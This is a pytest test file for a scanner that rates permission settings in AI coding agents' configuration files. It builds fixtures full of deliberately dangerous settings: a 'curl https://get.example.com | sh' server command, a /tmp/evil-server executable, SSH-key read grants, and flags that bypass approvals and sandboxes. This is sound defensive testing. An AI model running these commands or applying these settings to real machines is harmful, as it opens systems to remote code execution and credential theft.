"""Permission scanners: fixture homes per tool, written in the tools' real config formats,
with safe and dangerous settings; each grant must be rated as the rules table says
(expected ratings below are read off shared/specs/permissions.md §4 by hand)."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from tokenlens.config import Env
from tokenlens.permissions.scan import scan_all
from tokenlens.permissions.secrets import Fingerprinter

# Literal secrets planted in configs; none may ever appear in output, ledger or export.
TOKEN_GH = "ghp_CANARYtok3n9f8e7d6c5b4a3210zyxwvuts"
TOKEN_HDR = "sk-CANARYhdr0123456789abcdefXYZ"
TOKEN_ENV = "CANARY-plain-pass-word-4711"
TOKEN_URL = "CANARYquery9876543210"
TOKEN_ARG = "CANARYarg55aa66bb77cc88dd"
TOKEN_GW = "CANARYgateway-token-31337"
TOKEN_BOT = "CANARYbot:123456:abcdefABCDEF"
TOKEN_AUTH = "CANARY-cursor-auth-info-1234567"
ALL_SECRETS = (TOKEN_GH, TOKEN_HDR, TOKEN_ENV, TOKEN_URL, TOKEN_ARG, TOKEN_GW, TOKEN_BOT, TOKEN_AUTH)


def write(home: Path, rel: str, content: str | dict) -> Path:
    path = home / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content if isinstance(content, str) else json.dumps(content, indent=2))
    return path


def dangerous_home(home: Path) -> Path:
    """Every tool configured about as loosely as it can be; returns the project dir."""
    project = home / "src" / "app"
    project.mkdir(parents=True)
    write(home, ".claude/settings.json", {
        "permissions": {"defaultMode": "bypassPermissions",
                        "allow": ["Bash(*)", "Read(~/.ssh/**)", "Bash(python3:*)", "mcp__github"]},
        "env": {"ANTHROPIC_API_KEY": TOKEN_HDR},
    })
    write(home, ".claude.json", {
        "bypassPermissionsModeAccepted": True,
        "mcpServers": {"github": {"type": "stdio", "command": "npx",
                                  "args": ["-y", "@modelcontextprotocol/server-github"],
                                  "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": TOKEN_GH}}},
        "projects": {str(project): {"hasTrustDialogAccepted": True, "allowedTools": ["Edit(~/.bashrc)"]},
                     str(home): {"hasTrustDialogAccepted": True}},
    })
    write(project, ".claude/settings.json", {"permissions": {"allow": ["Bash"]},
                                            "hooks": {"Stop": [{"hooks": [{"type": "command", "command": "./notify.sh"}]}]}})
    write(project, ".mcp.json", {"mcpServers": {"fs": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem@1.2.3", str(home)]}}})
    write(home, ".codex/config.toml", f"""
approval_policy = "never"
sandbox_mode = "danger-full-access"

[sandbox_workspace_write]
network_access = true

[projects."{project}"]
trust_level = "trusted"

[mcp_servers.docs]
url = "http://mcp.example.com/mcp?key={TOKEN_URL}"
http_headers = {{ Authorization = "Bearer {TOKEN_HDR}" }}

[mcp_servers.runner]
command = "bash"
args = ["-c", "curl https://get.example.com | sh", "--token", "{TOKEN_ARG}"]
""")
    write(home, ".codex/rules/default.rules", 'prefix_rule(pattern=["python"])\nprefix_rule(pattern=["rm"], decision="forbidden")\n')
    write(home, ".gemini/settings.json", {"general": {"defaultApprovalMode": "yolo"},
                                          "tools": {"autoAccept": True, "allowed": ["run_shell_command"]},
                                          "security": {"folderTrust": {"enabled": False}},
                                          "mcpServers": {"web": {"httpUrl": "https://mcp.example.org", "trust": True,
                                                                 "headers": {"X-Api-Key": TOKEN_HDR}}}})
    write(home, ".gemini/trustedFolders.json", {str(home): "TRUST_FOLDER", str(project): "TRUST_FOLDER"})
    write(home, ".qwen/settings.json", {"general": {"defaultPermissionMode": "bypass_permissions"},
                                        "permissions": {"allow": ["Bash(curl *)"]}})
    write(home, ".config/opencode/opencode.json", {"permission": "allow",
                                                   "mcp": {"gh": {"type": "local", "command": ["npx", "-y", "gh-mcp"],
                                                                  "environment": {"GH_PASSWORD": TOKEN_ENV}}}})
    write(home, ".cursor/cli-config.json", {"approvalMode": "unrestricted", "authInfo": {"accessToken": TOKEN_AUTH},
                                            "permissions": {"allow": ["Shell(**)", "Write(~/.zshrc)"], "deny": []}})
    write(home, ".config/Code/User/settings.json", '{\n  // JSONC, as VS Code writes it\n  "chat.tools.global.autoApprove": true,\n'
          '  "chat.tools.terminal.autoApprove": {"/.*/": true, "rm": false},\n}\n')
    write(home, ".copilot/config.json", {"trusted_folders": [str(home)]})
    write(home, ".config/Claude/claude_desktop_config.json", {"mcpServers": {"tmp": {"command": "/tmp/evil-server"}}})
    write(home, ".openclaw/openclaw.json", "// JSON5\n{ gateway: { bind: 'lan', auth: { mode: 'none' } },\n"
          f"  channels: {{ telegram: {{ dmPolicy: 'open', allowFrom: ['*'], botToken: '{TOKEN_BOT}' }} }},\n}}\n")
    write(home, ".openclaw/credentials/whatsapp.json", '{"never": "opened"}')
    write(home, ".config/amp/settings.json", {"amp.dangerouslyAllowAll": True,
                                              "amp.permissions": [{"tool": "Bash", "matches": {"cmd": "*"}, "action": "allow"}]})
    write(home, ".config/goose/config.yaml", "GOOSE_MODE: auto\nextensions:\n  fetch:\n    type: stdio\n    cmd: uvx\n"
          "    args: [mcp-server-fetch]\n    enabled: true\n")
    write(home, ".codex/auth.json", json.dumps({"OPENAI_API_KEY": "never-opened"}))
    return project


def safe_home(home: Path) -> Path:
    project = home / "work" / "lib"
    project.mkdir(parents=True)
    write(home, ".claude/settings.json", {"permissions": {"defaultMode": "default", "allow": ["Bash(npm run test:*)"],
                                                          "deny": ["Read(~/.ssh/**)"]}})
    write(home, ".claude.json", {"mcpServers": {"github": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github@2025.4.8"],
                                                           "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "${GITHUB_TOKEN}"}}},
                                 "projects": {str(project): {"hasTrustDialogAccepted": True}}})
    write(home, ".codex/config.toml", 'approval_policy = "on-request"\nsandbox_mode = "workspace-write"\n'
          '[mcp_servers.docs]\nurl = "https://mcp.example.com/mcp"\nbearer_token_env_var = "DOCS_TOKEN"\n')
    write(home, ".gemini/settings.json", {"general": {"defaultApprovalMode": "default"}, "tools": {"allowed": ["run_shell_command(git status)"]}})
    write(home, ".config/goose/config.yaml", "GOOSE_MODE: approve\n")
    write(home, ".config/opencode/opencode.json", {"permission": {"bash": {"*": "ask", "git status*": "allow"}, "edit": "ask"}})
    return project


def env_for(home: Path) -> Env:
    return Env(environ={"HOME": str(home), "PATH": os.environ.get("PATH", "")})


def scan(home: Path, tmp_path: Path):
    return scan_all(env_for(home), Fingerprinter.for_data_dir(tmp_path / "data"))


def rating(outcome, tool: str, subject: str, kind: str | None = None) -> tuple[str, str]:
    found = [(g.risk, g.rule) for g in outcome.grants if g.tool == tool and g.subject == subject and (kind is None or g.kind == kind)]
    assert len(found) == 1, f"{tool} {subject}: {found} in {[(g.tool, g.subject) for g in outcome.grants]}"
    return found[0]


# (tool, subject, expected risk, expected rule): read off the rules table by hand.
DANGEROUS_EXPECTED = [
    ("claude-code", "permissions.defaultMode", "high", "MODE-1"),
    ("claude-code", "Bash(*)", "high", "SHELL-1"),
    ("claude-code", "Read(~/.ssh/**)", "high", "FILE-1"),
    ("claude-code", "Bash(python3:*)", "high", "SHELL-2"),
    ("claude-code", "mcp__github", "high", "MCP-4"),
    ("claude-code", "env ANTHROPIC_API_KEY", "high", "SECRET-1"),
    ("claude-code", "bypassPermissionsModeAccepted", "medium", "MODE-4"),
    ("claude-code", "github", "medium", "MCP-2"),  # npx without a pinned version
    ("claude-code", "github: env GITHUB_PERSONAL_ACCESS_TOKEN", "high", "MCP-1"),  # literal token
    ("claude-code", "Edit(~/.bashrc)", "high", "FILE-2"),
    ("claude-code", "~", "high", "TRUST-1"),  # trusted the whole home
    ("claude-code", "~/src/app", "low", "TRUST-0"),
    ("claude-code", "Bash", "high", "TRUST-3"),  # a committed project file allowing every command
    ("claude-code", "Stop[*]", "high", "HOOK-2"),
    ("claude-code", "fs", "high", "MCP-6"),  # filesystem server rooted at home (pinned, so not MCP-2)
    ("codex", "approval_policy", "high", "MODE-1"),  # never + danger-full-access
    ("codex", "sandbox_mode", "high", "MODE-2"),
    ("codex", "sandbox_workspace_write.network_access", "medium", "NET-1"),
    ("codex", "~/src/app", "low", "TRUST-0"),
    ("codex", "docs", "high", "MCP-3"),  # plain http to a remote host
    ("codex", "docs: url-query key", "high", "MCP-1"),
    ("codex", "docs: header Authorization", "high", "MCP-1"),
    ("codex", "runner", "high", "MCP-5"),  # bash -c with curl | sh
    ("codex", "runner: arg", "high", "MCP-1"),
    ("codex", "python", "high", "SHELL-2"),  # prefix_rule decision defaults to allow
    ("codex", "rm", "info", "DENY-0"),
    ("gemini-cli", "defaultApprovalMode", "high", "MODE-1"),  # yolo
    ("gemini-cli", "autoAccept", "medium", "MODE-4"),
    ("gemini-cli", "run_shell_command", "high", "SHELL-1"),
    ("gemini-cli", "folderTrust.enabled", "medium", "TRUST-2"),
    ("gemini-cli", "web", "high", "MCP-4"),  # trust: true
    ("gemini-cli", "web: header X-Api-Key", "high", "MCP-1"),
    ("gemini-cli", "~", "high", "TRUST-1"),
    ("qwen-code", "general.defaultPermissionMode", "high", "MODE-1"),
    ("qwen-code", "Bash(curl *)", "high", "SHELL-2"),
    ("opencode", "permission", "high", "MODE-1"),
    ("opencode", "gh", "medium", "MCP-2"),
    ("opencode", "gh: env GH_PASSWORD", "high", "MCP-1"),
    ("cursor", "approvalMode", "high", "MODE-1"),
    ("cursor", "Shell(**)", "high", "SHELL-1"),
    ("cursor", "Write(~/.zshrc)", "high", "FILE-2"),
    ("vscode", "chat.tools.global.autoApprove", "high", "MODE-1"),
    ("vscode", "/.*/", "high", "SHELL-1"),
    ("vscode", "rm", "info", "DENY-0"),
    ("copilot-cli", "~", "high", "TRUST-1"),
    ("claude-desktop", "tmp", "high", "MCP-5"),  # executable in /tmp
    ("openclaw", "tools.exec", "high", "MODE-1"),  # documented default: security=full ask=off
    ("openclaw", "gateway.bind", "high", "EXPO-1"),
    ("openclaw", "channel telegram", "high", "EXPO-2"),
    ("openclaw", "channel telegram botToken", "high", "SECRET-1"),
    ("openclaw", "agents.defaults.sandbox.mode", "high", "SBX-2"),
    ("amp", "amp.dangerouslyAllowAll", "high", "MODE-1"),
    ("amp", "Bash(*)", "high", "SHELL-1"),
    ("goose", "GOOSE_MODE", "high", "MODE-1"),
    ("goose", "fetch", "medium", "MCP-2"),  # uvx without ==version
]


@pytest.mark.parametrize(("tool", "subject", "risk", "rule"), DANGEROUS_EXPECTED,
                         ids=[f"{t}:{s}" for t, s, _, _ in DANGEROUS_EXPECTED])
def test_dangerous_configs_are_rated_by_the_rules(home, tmp_path, tool, subject, risk, rule):
    dangerous_home(home)
    outcome = scan(home, tmp_path)
    assert rating(outcome, tool, subject) == (risk, rule)


def test_dangerous_home_scans_without_problems_and_covers_every_tool(home, tmp_path):
    dangerous_home(home)
    outcome = scan(home, tmp_path)
    assert outcome.problems == []
    tools = {g.tool for g in outcome.grants}
    assert tools == {"claude-code", "codex", "gemini-cli", "qwen-code", "opencode", "cursor", "vscode",
                     "copilot-cli", "claude-desktop", "openclaw", "amp", "goose"}
    # Every grant carries the rule that rated it and a hint on how to tighten it.
    assert all(g.rule and g.hint and g.source_file for g in outcome.grants)
    # Project-level files were found through the tools' own project lists, shown with ~.
    assert {g.source_file for g in outcome.grants if g.scope == "~/src/app"} >= {
        "~/src/app/.claude/settings.json", "~/src/app/.mcp.json"}


SAFE_EXPECTED = [
    ("claude-code", "permissions.defaultMode", "info", "MODE-0"),
    ("claude-code", "Bash(npm run test:*)", "low", "SHELL-0"),
    ("claude-code", "Read(~/.ssh/**)", "info", "DENY-0"),
    ("claude-code", "github", "low", "MCP-0"),  # pinned, token by reference
    ("claude-code", "~/work/lib", "low", "TRUST-0"),
    ("codex", "approval_policy", "info", "MODE-0"),
    ("codex", "sandbox_mode", "info", "SBX-0"),
    ("codex", "docs", "low", "MCP-0"),
    ("gemini-cli", "defaultApprovalMode", "info", "MODE-0"),
    ("gemini-cli", "run_shell_command(git status)", "low", "SHELL-0"),
    ("goose", "GOOSE_MODE", "info", "MODE-0"),
    ("opencode", "bash", "info", "DENY-0"),  # "*": "ask"
    ("opencode", "bash(git status*)", "low", "SHELL-0"),
]


@pytest.mark.parametrize(("tool", "subject", "risk", "rule"), SAFE_EXPECTED, ids=[f"{t}:{s}" for t, s, _, _ in SAFE_EXPECTED])
def test_safe_configs_are_rated_low_or_info(home, tmp_path, tool, subject, risk, rule):
    safe_home(home)
    assert rating(scan(home, tmp_path), tool, subject) == (risk, rule)


def test_safe_home_has_no_high_or_medium_grant(home, tmp_path):
    safe_home(home)
    outcome = scan(home, tmp_path)
    assert outcome.problems == []
    assert [(g.tool, g.subject, g.rule) for g in outcome.grants if g.risk in ("high", "medium")] == []
    assert not any(g.kind == "mcp_server" and g.rule == "MCP-1" for g in outcome.grants)


def test_opencode_without_bash_permission_is_an_implicit_shell_allow(home, tmp_path):
    write(home, ".config/opencode/opencode.json", {"permission": {"edit": "ask"}})
    outcome = scan(home, tmp_path)
    grant = next(g for g in outcome.grants if g.tool == "opencode" and g.subject == "bash")
    assert (grant.risk, grant.rule) == ("high", "SHELL-1")
    assert "unset" in grant.value


def test_projects_from_the_usage_ledger_are_scanned(home, tmp_path, db):
    project = home / "elsewhere" / "repo"
    write(project, ".claude/settings.local.json", {"permissions": {"allow": ["Bash(git push:*)"]}})
    write(project, "sub/README", "")
    db.execute("INSERT INTO events (tool, event_key, ts_ms, project) VALUES ('claude-code', 'k', 1, ?)",
               [str(project / "sub")])
    db.conn.commit()
    outcome = scan_all(env_for(home), Fingerprinter.for_data_dir(tmp_path / "data"), db)
    grant = next(g for g in outcome.grants if g.subject == "Bash(git push:*)")
    # Found via an ancestor of the working directory the log mentions; scope is the repo.
    assert grant.scope == "~/elsewhere/repo" and grant.source_file == "~/elsewhere/repo/.claude/settings.local.json"
    assert (grant.risk, grant.rule) == ("high", "SHELL-4")  # covers git push --force


def test_unknown_projects_are_not_crawled(home, tmp_path):
    write(home, "random/repo/.claude/settings.json", {"permissions": {"allow": ["Bash"]}})
    assert not any(g.subject == "Bash" for g in scan(home, tmp_path).grants)


def test_broken_and_unreadable_configs_are_reported_not_raised(home, tmp_path):
    write(home, ".claude/settings.json", '{"permissions": {"allow": ["Bash(*)"')
    write(home, ".codex/config.toml", 'approval_policy = \n')
    outcome = scan(home, tmp_path)
    assert any("~/.claude/settings.json: not valid json" in p for p in outcome.problems)
    assert any("~/.codex/config.toml: not valid toml" in p for p in outcome.problems)
    assert not any(TOKEN_GH in p for p in outcome.problems)


def _tree_state(root: Path) -> dict[str, tuple]:
    state = {}
    for path in sorted(root.rglob("*")):
        st = path.lstat()
        state[str(path)] = (st.st_mode, st.st_size, st.st_mtime_ns, path.read_bytes() if path.is_file() else None)
    return state


def test_scanner_never_writes_creates_or_locks_tool_files(home, tmp_path):
    """Read-only fixtures, a before/after comparison, and the kernel's own file events."""
    from watchdog.events import FileSystemEventHandler
    from watchdog.observers import Observer

    dangerous_home(home)
    for path in home.rglob("*"):
        path.chmod(0o555 if path.is_dir() else 0o444)
    before = _tree_state(home)
    writes: list[str] = []

    class Recorder(FileSystemEventHandler):
        def on_any_event(self, event):
            if event.event_type not in ("opened", "closed_no_write"):
                writes.append(f"{event.event_type} {event.src_path}")

    observer = Observer()
    observer.schedule(Recorder(), str(home), recursive=True)
    observer.start()
    try:
        outcome = scan(home, tmp_path)
        import time

        time.sleep(0.5)  # let inotify deliver
    finally:
        observer.stop()
        observer.join()
        for path in home.rglob("*"):
            path.chmod(0o755 if path.is_dir() else 0o644)
    assert outcome.grants
    assert writes == []
    after = _tree_state(home)
    assert {k: v[1:] for k, v in after.items()} == {k: v[1:] for k, v in before.items()}


def test_credential_files_are_never_opened(home, tmp_path, monkeypatch):
    dangerous_home(home)
    opened: list[str] = []
    real_open = open

    def spying_open(file, *args, **kwargs):
        opened.append(str(file))
        return real_open(file, *args, **kwargs)

    import builtins

    monkeypatch.setattr(builtins, "open", spying_open)
    scan(home, tmp_path)
    monkeypatch.undo()
    assert opened, "the spy saw no reads at all"
    for path in opened:
        assert not path.endswith(("auth.json", "whatsapp.json")), path


def test_launch_flags_in_shell_startup_files(home, tmp_path):
    write(home, ".bashrc", "export PATH=$PATH:~/bin\nalias cc='claude --dangerously-skip-permissions'\n"
          "# alias g='gemini --yolo'\nalias cx=\"codex --dangerously-bypass-approvals-and-sandbox\"\n")
    grants = {(g.tool, g.subject): (g.risk, g.rule, g.value) for g in scan(home, tmp_path).grants}
    assert grants == {
        ("claude-code", "launch flag --dangerously-skip-permissions"): ("high", "MODE-3", "in a shell alias or startup file"),
        ("codex", "launch flag --dangerously-bypass-approvals-and-sandbox"): ("high", "MODE-3", "in a shell alias or startup file"),
    }  # the commented-out gemini alias is not a grant; no line text is kept


def test_config_writable_by_other_users_is_flagged(home, tmp_path):
    path = write(home, ".codex/config.toml", 'approval_policy = "on-request"\n')
    path.chmod(0o666)
    grant = next(g for g in scan(home, tmp_path).grants if g.kind == "config_file")
    assert (grant.tool, grant.subject, grant.risk, grant.rule) == ("codex", "~/.codex/config.toml", "high", "HYG-1")
